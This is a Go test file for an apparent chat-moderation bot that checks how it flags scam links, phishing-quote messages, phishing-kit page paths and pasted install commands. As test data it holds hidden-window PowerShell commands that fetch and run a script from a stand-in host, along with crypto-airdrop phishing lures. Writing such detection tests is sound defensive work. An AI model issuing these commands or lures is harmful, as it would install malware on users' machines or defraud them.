package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestEditorQueryNotADownloadEndpoint (rev28): a .js that a download
// endpoint's query names (get?file=…, download?f=…, /api/files/dl?name=…)
// is the file the link sends, as dl.php?file=… is, and stays flagged as
// a member's first link; only an editor's project page (/s/NAME,
// /edit/NAME, /p/sandbox/NAME) shows the file its query names. On
// 8a8ef25 the endpoint lines lost their file finding and were allowed
// (0.00-0.23). A script named with hex digits alone (a8f3b2c1d.js) is
// no bundle's: a build's hash follows the bundle's name (main.3f2a1b.js).
func TestEditorQueryNotADownloadEndpoint(t *testing.T) {
	t.Parallel()
	allowed := []string{
		"live demo https://codesandbox.io/s/quiet-river-x1y2z3?file=/src/App.js",
		"repro https://codesandbox.io/p/sandbox/quiet-river-x1y2z3?file=/src/index.js",
		"repro here https://stackblitz.com/edit/vitejs-vite-q7rtyu?file=index.js",
	}
	flagged := []string{
		"https://hollowpine.net/get?file=tool.js",
		"https://hollowpine.net/download?f=wallet_connect.js",
		"https://hollowpine.net/dl?name=Rechnung_0312.js",
		"http://hollowpine.net/file?fn=a8f3b2c1.js",
		"https://hollowpine.net/api/files/dl?name=viewer.js",
		"https://hollowpine.net/?file=viewer.js",
		"https://hollowpine.net/a8f3b2c1d.js",
	}
	checkFirstLinks(t, allowed, flagged)
}

// checkFirstLinks sends each line as a member's first link, each from a
// sender of its own (the engine adds first_link's 0.1 to a risky link),
// and wants the allowed lines allowed and the flagged ones flagged for
// their file.
func checkFirstLinks(t *testing.T, allowed, flagged []string) {
	t.Helper()
	send := newHarness(t, bot.DefaultConfig()).eachFromAnother()
	for _, text := range allowed {
		if d := send(text); d.Verdict.Level != bot.Allow {
			t.Errorf("%q: %s (%.3f) %v, want allowed", text, d.Verdict.Level, d.Verdict.Score, codes(d.Verdict))
		}
	}
	for _, text := range flagged {
		d := send(text)
		if d.Verdict.Level == bot.Allow || !hasReason(d.Verdict, bot.CodeDangerousFile) {
			t.Errorf("%q: %s (%.3f) %v, want flagged for its file", text, d.Verdict.Level, d.Verdict.Score, codes(d.Verdict))
		}
	}
}

// TestSaidQuotationNeedsAThreatTeller (rev28): a word of saying makes a
// quotation the scam's words (sec28) only when the threat is its teller,
// named in its clause before it, or is named after the quotation. A
// warning in a clause of its own before an authority's quoted call is
// how a scam opens as often ('scammers are everywhere, support is asking
// "please verify your account" only via x[.]top'): the first five were
// allowed at 0.00 on b2ab6d6 and are flagged here; the defenders' lines
// after them stay allowed.
func TestSaidQuotationNeedsAThreatTeller(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{`scammers are everywhere, support is asking "please verify your account" only via claim-airdrop-eth[.]top`, true},
		{`avoid phishing: claim-airdrop-eth[.]top -- literally "free 100 usdt for everyone"`, true},
		{`ignore the scam dms, the new post reads "airdrop live, connect your wallet now" hxxps://claim-airdrop-eth[.]top/claim`, true},
		{`watch out for phishing, mods are saying "verify here or get kicked" claim-airdrop-eth[dot]top`, true},
		{`no more fake giveaways, the announcement titled "Season 2 rewards, claim yours" is on claim-airdrop-eth[.]top`, true},
		{`the phishing sms saying "your parcel is on hold" links to claim-airdrop-eth[.]top`, false},
		{`got a smishing text that reads "your account is locked, verify now" from hxxps://claim-airdrop-eth[.]top/login`, false},
		{`the email titled "Invoice overdue, pay today" pointed to claim-airdrop-eth[.]top, reported as phishing`, false},
	})
}

// TestNamedPageNotAKitsService (rev28): a page over plain HTTP filed
// under a kit's target service (/mail/settings.php, /office/…) or named
// with a sign-in's word (/notice/suspended.php) is no program's named
// page (oldweb28's namedPageReading) and keeps the scheme's and the
// script's weight; a program's page in a folder of its topic stays read
// as its static twin. The first three were deleted at 0.81-0.97 on
// 8a8ef25 and allowed on c40ed4d.
func TestNamedPageNotAKitsService(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"http://www.gardenclub.com/notice/suspended.php", true},
		// model36: allowed at 0.04, the cost of the link
		// model's second stage (BENCHMARKS.md, model36)
		{"http://www.gardenclub.com/mail/settings.php", false},
		{"http://www.smallbakery-example.com/mail/settings.php", true},
		{"http://www.hollowayhq.com/unix/dnstracer.php", false},
		{"http://www.hollowayhq.com/software/tinyfont.php", false},
	})
}

// TestForgeLibraryNoted (rev28): a script at /OWNER/NAME.js on a host
// named git. (margin28's forgeLibrary) is noted as a page's library is,
// not passed over: anyone names a host git. and serves a script there.
// A first link still leaves a forge's library allowed; beside a host
// the link model reads at the margin the file's note tips it. The two
// flagged lines were allowed without a file finding (0.29, 0.37) on
// 318908a.
func TestForgeLibraryNoted(t *testing.T) {
	t.Parallel()
	checkFirstLinks(t, []string{
		"https://git.hollowpine.net/alice/left-pad.js",
		"https://git.coolaj86.example/coolaj86/atob.js",
	}, []string{
		"https://git.secure-update-center.net/team/wallet.js",
		"https://git.free-robux-tools.com/team/wallet.js",
	})
}

// TestHiddenWindowCommand (rev28): a pasted command that fetches and
// runs what a site serves in a hidden PowerShell window (-w hidden,
// -WindowStyle Hidden, -W H) is run out of sight, as fake checks and
// "fixes" run theirs, whatever the site's name reads as: the first three
// were allowed on 52b7f81 (an install.ps1 on a site the link model reads
// as plain is noted as a project's installer). A project's one-liner
// with no hidden window is read as before.
func TestHiddenWindowCommand(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{`to fix the error press Win+R and paste: powershell -w hidden -c "irm https://hollowpine.net/install.ps1 | iex"`, true},
		{`powershell -WindowStyle Hidden -Command "irm https://hollowpine.net/hollowpine-install.ps1 | iex"`, true},
		{`powershell -W H -nop -c "irm https://hollowpine.net/install.ps1 | iex"`, true},
		{`open PowerShell and paste: irm https://astral.sh/uv/install.ps1 | iex`, false},
		{`install uv: powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"`, false},
	})
}
